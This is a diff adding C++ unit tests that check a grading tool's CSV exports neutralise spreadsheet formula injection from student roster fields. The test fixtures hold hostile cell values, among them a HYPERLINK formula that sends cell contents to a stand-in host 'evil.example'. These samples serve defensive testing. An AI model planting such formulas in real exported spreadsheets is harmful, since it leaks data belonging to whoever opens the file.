@@ -3,7 +3,9 @@
 // before it, a student whose submission could not be graded a row of 0 with
 // the reason; each feedback file named by the platform's identity.
 #include <catch2/catch.hpp>
+#include <cstdlib>
 
+#include "class_view.h"
 #include "gradebook.h"
 #include "intake.h"
 
@@ -199,4 +201,90 @@ TEST_CASE("A feedback file per student, named by the platform's identity, with t
   gs.handins[2].record.submitters[0].sid = "100";
   const auto twice = feedback_files(gs.book);
   CHECK(twice[3].first == "100-submission_1003.txt");
+}
+
+namespace {
+
+// Gradescope's export of a roster a student filled in: a name that is a
+// formula, an email and an SID that start like one, as Ruby's YAML quotes them.
+const char* kHostileMetadata = R"(submission_1001:
+  :submitters:
+  - :name: '=HYPERLINK("http://evil.example/?"&A1,"Ada")'
+    :sid: '-100'
+    :email: "+cmd@evil.edu"
+  :created_at: 2026-12-05 23:00:00.000000000 -05:00
+)";
+
+// What a spreadsheet would run: a cell starting with =, +, -, @, a tab or a
+// carriage return that is not a plain number.
+bool runs_as_formula(const std::string& cell) {
+  if (cell.empty() || std::string("=+-@\t\r").find(cell[0]) == std::string::npos) return false;
+  char* end = nullptr;
+  std::strtod(cell.c_str(), &end);
+  return cell[0] != '-' || *end != '\0';
+}
+
+// Ada's hand-in replaced by the hostile export's, graded with its record.
+void hostile_ada(Fixture& f) {
+  const std::vector<HandIn> read =
+      parse_gradescope_metadata(kHostileMetadata, "submission_metadata.yml", "/export");
+  REQUIRE(read.size() == 1);
+  REQUIRE(read[0].record.submitters.size() == 1);
+  const std::vector<QuestionSubmission> questions = f.handins[0].questions;
+  f.handins[0] = read[0];
+  f.handins[0].problem.clear();  // its folder is not on this disk; in the export it is
+  f.handins[0].questions = questions;
+  f.handins[0].record.submitters[0].login = "@ada";
+  f.batch.entries[0].grade->submission = f.handins[0].record;
+  f.batch.entries[0].grade->id = "=1+1";
+  f.batch.entries[0].id = "=1+1";
+}
+
+}  // namespace
+
+TEST_CASE(
+    "A hostile name, email and SID from Gradescope's export reach its gradebook as text, the points as "
+    "numbers",
+    "[unit][gradebook][csv]") {
+  Fixture f(Platform::gradescope);
+  hostile_ada(f);
+  const auto rows = rows_of(f.book);
+  REQUIRE(rows.size() == 5);
+  const auto& h = rows[0];
+  CHECK(rows[1][column(h, "Name")] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ada\")");
+  CHECK(rows[1][column(h, "Email")] == "'+cmd@evil.edu");
+  CHECK(rows[1][column(h, "SID")] == "'-100");
+  CHECK(rows[1][column(h, "Total Score")] == "40.00");
+  CHECK(rows[2][column(h, "Late Penalty")] == "0.2");
+  for (const auto& row : rows)
+    for (const auto& cell : row) CHECK_FALSE(runs_as_formula(cell));
+}
+
+TEST_CASE(
+    "No cell of any platform's gradebook, grades.csv or class.csv runs as a formula with a hostile roster",
+    "[unit][gradebook][csv]") {
+  for (Platform p : {Platform::gradescope, Platform::prairielearn, Platform::classroom}) {
+    Fixture f(p);
+    hostile_ada(f);
+    // A Classroom grades CSV's own cells, copied into its gradebook.
+    f.handins[0].platform_rows = {{{"assignment_name", "=hw3"},
+                                   {"assignment_url", "@https://c/a"},
+                                   {"student_repository_name", "-hw3-ada"},
+                                   {"submission_timestamp", "\t2026-12-05"}}};
+    f.handins[1].group = "+team";
+    const std::string book = gradebook_csv(f.book);
+    INFO(platform_name(p) << ":\n" << book);
+    const auto rows = parse_csv(book);
+    REQUIRE(rows.size() >= 4);
+    for (const auto& row : rows)
+      for (const auto& cell : row) CHECK_FALSE(runs_as_formula(cell));
+    // The hostile cells are there, neutralised, not dropped.
+    CHECK(book.find(p == Platform::gradescope     ? "\"'=HYPERLINK("
+                    : p == Platform::prairielearn ? "\"'@ada\""
+                                                  : "\"'=hw3\"") != std::string::npos);
+    if (p != Platform::gradescope) CHECK(book.find("\"'+team\"") != std::string::npos);
+    for (const std::string& text : {batch_csv(f.batch), class_csv(class_view(f.batch))})
+      for (const auto& row : parse_csv(text))
+        for (const auto& cell : row) CHECK_FALSE(runs_as_formula(cell));
+  }
 }
